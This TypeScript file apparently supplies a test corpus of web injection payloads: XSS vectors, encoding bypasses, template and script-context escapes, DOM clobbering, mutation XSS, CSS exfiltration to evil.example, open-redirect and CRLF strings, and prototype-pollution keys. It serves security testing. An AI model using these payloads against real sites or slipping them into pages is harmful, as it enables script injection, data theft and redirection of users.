/** A text that becomes code, or an element, wherever somebody forgets what it stands in. */
export interface Payload {
  readonly category: Category
  readonly text: string
}

/** Calls the test when it runs; the witness puts the function into every page. */
const call = 'complain(1)'
/** On every element that a payload makes, so that one is found that is there without having run. */
const mark = 'data-evil'
const image = `<img src=x ${mark} onerror=${call}>`
const vector = `<svg ${mark} onload=${call}>`
const script = `<script ${mark}>${call}</script>`
const cores = [image, vector, script]

const handlers: readonly (readonly [element: string, attributes: string])[] = [
  ['img', 'src=x onerror'],
  ['img', 'src=/favicon.svg onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onhashchange'],
  ['input', 'autofocus onfocus'],
  ['select', 'autofocus onfocus'],
  ['textarea', 'autofocus onfocus'],
  ['button', 'autofocus onfocus'],
  ['a', 'href=# autofocus onfocus'],
  ['div', 'tabindex=1 autofocus onfocus'],
  ['details', 'open ontoggle'],
  ['video', 'src=x onerror'],
  ['video', 'poster=x onloadstart'],
  ['audio', 'src=x onerror'],
  ['source', 'onerror'],
  ['marquee', 'onstart'],
  ['object', 'data=x onerror'],
  ['embed', 'src=x onload'],
  ['iframe', 'onload'],
  ['iframe', 'srcdoc=x onload'],
  ['link', 'rel=stylesheet href=x onerror'],
  ['style', 'onload'],
  ['div', 'style=animation-name:x onanimationstart'],
  ['div', 'onpointerrawupdate'],
  ['div', 'popover onbeforetoggle'],
  ['form', 'onformdata'],
  ['dialog', 'open oncancel'],
  ['math', 'onfocus tabindex=1 autofocus'],
]
const breakOuts = [
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</template>',
  '</option></select>',
  '</iframe>',
  '</svg>',
  '-->',
  ']]>',
  '`>',
]

/** Payloads by what they hope for. */
const byCategory = {
  handler: handlers.map(([element, attributes]) => `<${element} ${mark} ${attributes}=${call}>`),
  'break-out': breakOuts.flatMap((out) => cores.map((core) => out + core)),
  attribute: ['"', "'", '`', '&quot;', '&#34;', '\u0000"', '\t"'].flatMap((quote) =>
    [`autofocus onfocus=${call}`, `onmouseover=${call}`, `style=color:red onclick=${call}`].map(
      (attributes) => `${quote} ${mark} ${attributes} x=${quote}`,
    ),
  ),
  disguise: [
    `<ScRiPt ${mark}>${call}</sCrIpT>`,
    `<scr<script>ipt ${mark}>${call}</script>`,
    `<script\t${mark}>${call}</script\n>`,
    `<script/${mark}>${call}</script/x>`,
    `<img/src=x/${mark}/onerror=${call}>`,
    `<img src=x ${mark} onerror\n=\n${call}>`,
    `<img src=x ${mark} onerror="&#99;omplain(1)">`,
    `&lt;img src=x ${mark} onerror=${call}&gt;`,
    `&#60;img src=x ${mark} onerror=${call}&#62;`,
    `&amp;lt;img src=x ${mark} onerror=${call}&amp;gt;`,
    `%3Cimg src=x ${mark} onerror=${call}%3E`,
    `%253Cimg src=x ${mark} onerror=${call}%253E`,
    `\\x3cimg src=x ${mark} onerror=${call}\\x3e`,
    `\\u003cimg src=x ${mark} onerror=${call}\\u003e`,
    `+ADw-img src=x ${mark} onerror=${call}+AD4-`,
    `＜img src=x ${mark} onerror=${call}＞`,
    `<\u0000img src=x ${mark} onerror=${call}>`,
    `<img\u000csrc=x\u000c${mark}\u000conerror=${call}>`,
    `<img src=x ${mark} onerror=${call}//`,
    `<<img src=x ${mark} onerror=${call}>>`,
    `<x><img src=x ${mark} onerror=${call}></x>`,
    `<!--><img src=x ${mark} onerror=${call}>`,
    `<![CDATA[><img src=x ${mark} onerror=${call}>]]>`,
    `<?xml ?><img src=x ${mark} onerror=${call}>`,
  ],
  address: [
    `javascript:${call}`,
    `JaVaScRiPt:${call}`,
    ` javascript:${call}`,
    `\tjava\tscript:${call}`,
    `java\nscript:${call}`,
    `javascript&colon;${call}`,
    `javascript&#58;${call}`,
    `\u0001javascript:${call}`,
    `javascript://%0a${call}`,
    `javascript:void(${call})//https://`,
    `vbscript:${call}`,
    `data:text/html,${script}`,
    `data:text/html;base64,PHNjcmlwdD5jb21wbGFpbigxKTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,${vector}`,
    `<a ${mark} href="javascript:${call}">x</a>`,
    `<form ${mark} action="javascript:${call}"><button>x`,
    `<button ${mark} formaction="javascript:${call}">x`,
    `<iframe ${mark} src="javascript:${call}">`,
    `<svg ${mark}><a href="javascript:${call}"><text>x`,
    `<base ${mark} href="https://evil.example/">`,
    `<meta ${mark} http-equiv=refresh content="0;url=javascript:${call}">`,
    `<meta ${mark} http-equiv=refresh content="0;url=https://evil.example/">`,
  ],
  template: [
    `{{constructor.constructor('${call}')()}}`,
    `{{_openBlock.constructor('${call}')()}}`,
    `{{$el.ownerDocument.defaultView.${call}}}`,
    `{{this.constructor.constructor('${call}')()}}`,
    '{{7*7}}',
    `\${${call}}`,
    `\${7*7}`,
    '#{7*7}',
    '<%= 7*7 %>',
    '[[7*7]]',
    `<div ${mark} v-html="'${image}'">`,
    `<div ${mark} v-on:click="${call}">`,
    `<div ${mark} @vue:mounted="${call}">`,
    `<component ${mark} :is="'script'">${call}</component>`,
    `<x ${mark} v-bind:[x]=1 ng-app>{{$on.constructor('${call}')()}}`,
    `<RemoteSlot ${mark} is="orders/buy-button">`,
  ],
  script: [
    `';${call};'`,
    `";${call};"`,
    `\\';${call}//`,
    `\\";${call}//`,
    `*/${call}/*`,
    `\u2028${call}`,
    `\u2029${call}`,
    `\n${call}\n`,
    `}${call};{`,
    `)];${call};([`,
    `</script><script ${mark}>${call}//`,
    `</ScRiPt ><script ${mark}>${call}//`,
    `<!--<script>${call}`,
    `<!--</script>${image}`,
    `"}</script>${image}`,
    `{"a":"</script>${image}"}`,
    `\\u003c/script>${image}`,
    `\u202e${image}`,
  ],
  clobbering: [
    'getElementById',
    'querySelector',
    'body',
    'head',
    'cookie',
    'location',
    'documentElement',
    'defaultView',
    'currentScript',
    'galleria',
    'page-state',
    'frontends-registry',
    '__proto__',
    'complain',
    'trustedTypes',
  ]
    .flatMap((name) => [
      `<img ${mark} name=${name}>`,
      `<form ${mark} id=${name}><input ${mark} name=attributes></form>`,
    ])
    .concat([
      `<a ${mark} id=galleria><a ${mark} id=galleria name=__vue_app__ href=x>`,
      `<meta ${mark} name=galleria-publisher content=a.b>`,
      `<script ${mark} type=application/json id=page-state>{"locale":"ko","answers":{}}</script>`,
      `<script ${mark} type=application/json id=frontends-registry>{"remotes":[]}</script>`,
      `<script ${mark} type=importmap>{"imports":{"vue":"data:text/javascript,${call}"}}</script>`,
      `<link ${mark} rel=modulepreload href=https://evil.example/x.js>`,
    ]),
  mutation: [
    `<svg ${mark}><style><img ${mark} src=x onerror=${call}></style>`,
    `<svg ${mark}></p><style><a id="</style>${image}">`,
    `<math ${mark}><mtext><table><mglyph><style><!--</style><img title="-->${image}">`,
    `<noscript><p title="</noscript>${image}">`,
    `<template ${mark}>${image}</template>`,
    `<table ${mark}><td>${image}</table>`,
    `<select ${mark}><noembed></select>${image}`,
    `<xmp><p title="</xmp>${image}">`,
    `<svg ${mark}><foreignObject>${image}`,
    `<svg ${mark}><animate onbegin=${call} attributeName=x dur=1s>`,
    `<svg ${mark}><use href="data:image/svg+xml,${vector}">`,
    `<svg ${mark}><set attributeName=onmouseover to=${call}>`,
    `<div ${mark}><template shadowrootmode=open>${image}</template></div>`,
    `<plaintext ${mark}>`,
    `<textarea ${mark}>`,
  ],
  style: [
    `<style ${mark}>@import'https://evil.example/x.css'</style>`,
    `<style ${mark}>*{background:url(https://evil.example/)}</style>`,
    `<link ${mark} rel=stylesheet href=https://evil.example/x.css>`,
    `<div ${mark} style="background:url(https://evil.example/)">`,
    `<div ${mark} style="width:expression(${call})">`,
    `red;background:url(https://evil.example/)`,
    `<input ${mark} value=x><style ${mark}>input[value^=x]{background:url(https://evil.example/)}</style>`,
  ],
  place: [
    '//evil.example/',
    '/\\evil.example/',
    '/\t/evil.example/',
    'https:evil.example',
    'https://evil.example/',
    '/%2f/evil.example',
    '/..//evil.example',
    '/%0d%0aset-cookie:%20evil=1',
    '/\r\nset-cookie: evil=1',
    '/\r\n\r\n<script>complain(1)</script>',
    '@evil.example',
    '.evil.example',
    '/cart?next=//evil.example',
    '///evil.example',
    '/;@evil.example',
  ],
  name: [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    '__proto__[x]',
    'constructor.prototype.x',
    'hasOwnProperty',
  ],
} as const satisfies Readonly<Record<string, readonly string[]>>

/** What a payload hopes for. */
export type Category = keyof typeof byCategory

/** All of them. */
export const corpus: readonly Payload[] = (Object.entries(byCategory) as [Category, readonly string[]][]).flatMap(
  ([category, texts]) => texts.map((text) => ({ category, text })),
)

/** One payload of each category, another with each `turn`. */
export function oneOfEach(turn = 0): readonly Payload[] {
  return (Object.keys(byCategory) as Category[]).map((category) => {
    const texts: readonly string[] = byCategory[category]
    return { category, text: texts[turn % texts.length] ?? '' }
  })
}
